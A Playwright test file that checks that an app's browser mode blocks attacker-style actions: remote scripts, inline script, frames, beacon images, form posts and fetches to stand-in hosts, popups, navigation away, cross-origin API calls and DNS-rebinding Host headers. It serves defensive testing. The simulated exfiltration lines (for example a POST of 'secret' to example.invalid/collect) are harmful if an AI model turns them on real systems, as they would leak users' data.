/**
 * Browser mode under attack, in a real Chromium against the real server (docs/security.md, "Browser
 * mode"): a page that tries to load a remote script, frame or image, send its data away, open a
 * window, navigate away, or call the API from another origin is refused at each step.
 *
 * Nothing leaves this machine: every request the browser makes to anything but 127.0.0.1 is
 * recorded and aborted (http://evil.example, the attacker's page, is answered here by the test).
 */
import { request as httpRequest } from 'node:http';
import type { BrowserContext, Page } from '@playwright/test';
import { test, expect, callApi } from './app-fixture.ts';

const EVIL_ORIGIN = 'http://evil.example';
const REMOTE = 'https://example.invalid';

interface Left {
  url: string;
  headers: Record<string, string>;
  navigation: boolean;
}

/** Aborts and records every request for anything but 127.0.0.1; serves the attacker's page itself. */
async function keepEverythingLocal(context: BrowserContext, attackerPage = ''): Promise<Left[]> {
  const left: Left[] = [];
  await context.route('**/*', async (route) => {
    const req = route.request();
    const url = new URL(req.url());
    if (url.hostname === '127.0.0.1') return route.continue();
    if (url.origin === EVIL_ORIGIN && url.pathname === '/') {
      return route.fulfill({ status: 200, contentType: 'text/html; charset=utf-8', body: attackerPage });
    }
    left.push({ url: req.url(), headers: await req.allHeaders(), navigation: req.isNavigationRequest() });
    return route.abort('blockedbyclient');
  });
  return left;
}

/** Starts collecting the page's CSP violations (the browser's own report of what it refused). */
async function watchViolations(page: Page): Promise<void> {
  await page.evaluate(() => {
    const w = window as unknown as { __violations: { directive: string; blocked: string }[] };
    w.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) => w.__violations.push({ directive: e.effectiveDirective, blocked: e.blockedURI }));
  });
}

function violations(page: Page): Promise<{ directive: string; blocked: string }[]> {
  return page.evaluate(() => (window as unknown as { __violations: { directive: string; blocked: string }[] }).__violations);
}

test.describe('browser mode refuses what an attacker’s content would try', () => {
  test('a remote script, inline script, frame, image, form post or fetch is blocked by the CSP before it leaves', async ({ page, context, app, openApp }) => {
    const left = await keepEverythingLocal(context);
    await openApp();
    await watchViolations(page);

    const outcome = await page.evaluate(async (remote) => {
      const w = window as unknown as Record<string, unknown>;
      const loaded = (el: HTMLElement) =>
        new Promise<string>((resolve) => {
          el.addEventListener('load', () => resolve('loaded'));
          el.addEventListener('error', () => resolve('error'));
          setTimeout(() => resolve('nothing'), 1500);
        });

      // A remote script, as a planted document's HTML or a compromised dependency would add one.
      const remoteScript = document.createElement('script');
      remoteScript.src = `${remote}/x.js`;
      const remoteScriptDone = loaded(remoteScript);
      document.body.append(remoteScript);

      // An inline script: script-src 'self' does not allow it. (Not eval: code run through
      // page.evaluate is DevTools' own, which the CSP's eval rule does not cover; that the policy
      // has no 'unsafe-eval' is checked in test/electron/main/security-checklist.test.ts.)
      const inline = document.createElement('script');
      inline.textContent = 'window.__inlineRan = true;';
      document.body.append(inline);

      // A remote page in a frame, a remote image (a beacon), a form posting data away.
      const frame = document.createElement('iframe');
      frame.src = `${remote}/frame.html`;
      document.body.append(frame);
      const image = document.createElement('img');
      image.src = `${remote}/beacon.png?data=secret`;
      const imageDone = loaded(image);
      document.body.append(image);
      const form = document.createElement('form');
      form.method = 'post';
      form.action = `${remote}/collect`;
      document.body.append(form);
      form.submit();

      // Data sent away with fetch.
      let fetchResult = 'sent';
      try {
        await fetch(`${remote}/collect`, { method: 'POST', body: 'secret', mode: 'no-cors' });
      } catch (error) {
        fetchResult = (error as Error).name;
      }
      await new Promise((resolve) => setTimeout(resolve, 500));
      return {
        remoteScript: await remoteScriptDone,
        image: await imageDone,
        inlineRan: w.__inlineRan === true,
        fetchResult,
        stillHere: location.origin,
      };
    }, REMOTE);

    expect(outcome).toEqual({ remoteScript: 'error', image: 'error', inlineRan: false, fetchResult: 'TypeError', stillHere: app.origin });
    const seen = await violations(page);
    const blocked = (directive: string, url: string) => seen.some((v) => v.directive === directive && v.blocked.startsWith(url));
    expect(blocked('script-src-elem', `${REMOTE}/x.js`), JSON.stringify(seen)).toBe(true);
    expect(seen.some((v) => v.directive === 'script-src-elem' && v.blocked === 'inline'), JSON.stringify(seen)).toBe(true);
    // (a frame's report names only its origin)
    expect(blocked('frame-src', REMOTE), JSON.stringify(seen)).toBe(true);
    expect(blocked('img-src', `${REMOTE}/beacon.png`), JSON.stringify(seen)).toBe(true);
    expect(blocked('form-action', `${REMOTE}/collect`), JSON.stringify(seen)).toBe(true);
    expect(blocked('connect-src', `${REMOTE}/collect`), JSON.stringify(seen)).toBe(true);
    // The CSP stopped every one of them in the browser: not one reached the network.
    expect(left).toEqual([]);
    // …and the app still works. (Not a locator: the refused form post leaves Playwright waiting
    // for a navigation that never comes.)
    expect(await page.evaluate(() => location.href)).toBe(`${app.origin}/`);
    expect(Array.isArray(await callApi<unknown[]>(page, 'roots.list'))).toBe(true);
  });

  test('a new window gets no hold on the app, and what it opens learns nothing of the token', async ({ page, context, app, openApp }) => {
    const left = await keepEverythingLocal(context);
    await openApp();
    const popupOpened = context.waitForEvent('page');
    await page.evaluate((remote) => {
      (window as unknown as { __opened: Window | null }).__opened = window.open(`${remote}/phish`);
    }, REMOTE);
    const popup = await popupOpened;
    await expect.poll(() => left.filter((l) => l.url.startsWith(`${REMOTE}/phish`)).length).toBe(1);
    await popup.waitForLoadState().catch(() => {});
    // Once it has left the app's origin, the app's handle on it is cut (Cross-Origin-Opener-Policy:
    // same-origin puts it in another browsing context group): the handle reads as closed.
    await expect
      .poll(() =>
        page.evaluate(() => {
          const opened = (window as unknown as { __opened: Window | null }).__opened;
          let documentReadable = false;
          try {
            documentReadable = Boolean(opened?.document);
          } catch {
            // Cross-origin: refused.
          }
          return { closed: opened?.closed ?? true, documentReadable };
        }),
      )
      .toEqual({ closed: true, documentReadable: false });

    // The popup cannot reach back: the app's Cross-Origin-Opener-Policy cuts the opener link.
    expect(await popup.evaluate(() => window.opener === null).catch(() => true)).toBe(true);
    // What it tried to open was stopped here, and carried neither the token nor where it came from.
    const tried = left.filter((l) => l.url.startsWith(`${REMOTE}/phish`));
    expect(tried).toHaveLength(1);
    expect(JSON.stringify(tried[0])).not.toContain(app.token);
    expect(tried[0].headers.referer).toBeUndefined();
    expect(tried[0].headers.authorization).toBeUndefined();
    await popup.close();
    // The app's tab is untouched.
    await expect(page).toHaveURL(`${app.origin}/`);
    await expect(page.getByRole('searchbox', { name: 'Search evidence' })).toBeVisible();
  });

  test('navigating the app away sends nothing with it, and the app comes back signed in', async ({ page, context, app, openApp }) => {
    const left = await keepEverythingLocal(context);
    const rootsLoaded = page.waitForResponse((r) => r.url() === `${app.origin}/api/roots.list` && r.status() === 200);
    await openApp();
    await rootsLoaded;

    // A web page cannot stop its own tab being navigated (there is no CSP for that); what matters
    // is that the request carries nothing: no token, no referrer, no credentials.
    await page.evaluate((remote) => {
      location.href = `${remote}/steal`;
    }, REMOTE);
    await expect.poll(() => left.filter((l) => l.navigation).length).toBe(1);
    // Stopped here: the tab shows the browser's error page, no longer the app.
    await page.waitForURL((url) => !url.href.startsWith(app.origin));
    const away = left[0];
    expect(away.url).toBe(`${REMOTE}/steal`);
    expect(JSON.stringify(away)).not.toContain(app.token);
    expect(away.headers.referer).toBeUndefined();
    expect(away.headers.authorization).toBeUndefined();
    expect(away.headers.cookie).toBeUndefined();

    // Back in the app's tab: its token is still its own, and only its own.
    const again = page.waitForResponse((r) => r.url() === `${app.origin}/api/roots.list` && r.status() === 200);
    await page.goto(`${app.origin}/`);
    await again;
    await expect(page.getByRole('searchbox', { name: 'Search evidence' })).toBeVisible();
    expect(left).toHaveLength(1);
  });

  test('a page from another origin cannot call the API, even holding the token', async ({ page, context, app }) => {
    // The attacker's page, as if the token had leaked to it.
    const left = await keepEverythingLocal(context, '<!doctype html><title>Evil</title><p>Win a prize</p>');
    const apiStatuses: number[] = [];
    page.on('response', (r) => {
      if (r.url().startsWith(`${app.origin}/api/`)) apiStatuses.push(r.status());
    });
    await page.goto(`${EVIL_ORIGIN}/`);
    await expect(page.getByText('Win a prize')).toBeVisible();

    const outcome = await page.evaluate(
      async ([api, token]) => {
        const tryFetch = async (init: RequestInit) => {
          try {
            const response = await fetch(api, init);
            return `${response.status} ${await response.text()}`;
          } catch (error) {
            return (error as Error).name;
          }
        };
        return {
          // What the app itself sends, from the wrong origin: refused before the call is made.
          withToken: await tryFetch({ method: 'POST', headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json', 'x-evidence-request': '1' }, body: '{}' }),
          // A "simple" request the browser sends without asking first: refused by the server.
          simple: await tryFetch({ method: 'POST', mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body: '{}' }),
        };
      },
      [`${app.origin}/api/roots.list`, app.token] as const,
    );
    // Chromium refuses both itself (the CORS preflight, and its local network access rules for a
    // public page calling 127.0.0.1); where a request does get through, the server refuses it for
    // its Origin (the last test). Either way the page reads nothing.
    expect(outcome.withToken).toBe('TypeError');
    expect(['TypeError', '0 ']).toContain(outcome.simple);
    // Whatever reached the server was refused.
    for (const status of apiStatuses) expect([401, 403]).toContain(status);
    expect(left).toEqual([]);
  });
});

/** A raw HTTP call to the app's API, with exactly these headers (a browser would not let a page set Host). */
function rawApi(port: number, headers: Record<string, string>): Promise<{ status: number; body: string }> {
  return new Promise((resolve, reject) => {
    const req = httpRequest({ host: '127.0.0.1', port, path: '/api/roots.list', method: 'POST', headers: { 'content-type': 'application/json', ...headers } }, (res) => {
      let body = '';
      res.on('data', (chunk: Buffer) => (body += chunk.toString()));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, body }));
    });
    req.on('error', reject);
    req.end('{}');
  });
}

test('the API answers only this launch’s token, from its own origin, under its own host name', async ({ app }) => {
  const good = { authorization: `Bearer ${app.token}`, 'x-evidence-request': '1' };
  // The app's own call works, so the refusals below are refusals.
  const ok = await rawApi(app.port, good);
  expect(ok.status).toBe(200);
  expect(JSON.parse(ok.body)).toMatchObject({ ok: true });

  const refusals: [string, Record<string, string>, number][] = [
    ['another origin, with the token', { ...good, origin: EVIL_ORIGIN }, 403],
    ['another port of 127.0.0.1, with the token', { ...good, origin: `http://127.0.0.1:${app.port === 65535 ? 1 : app.port + 1}` }, 403],
    ['a foreign Host (DNS rebinding), with the token', { ...good, host: `evil.example:${app.port}` }, 403],
    ['no token', { 'x-evidence-request': '1' }, 401],
    ['a wrong token', { ...good, authorization: `Bearer ${'x'.repeat(app.token.length)}` }, 401],
    ['the token without the API header (a cross-site form)', { authorization: `Bearer ${app.token}` }, 403],
  ];
  for (const [what, headers, status] of refusals) {
    const answer = await rawApi(app.port, headers);
    expect(answer.status, what).toBe(status);
    expect(answer.body, what).not.toContain('"ok":true');
  }
});
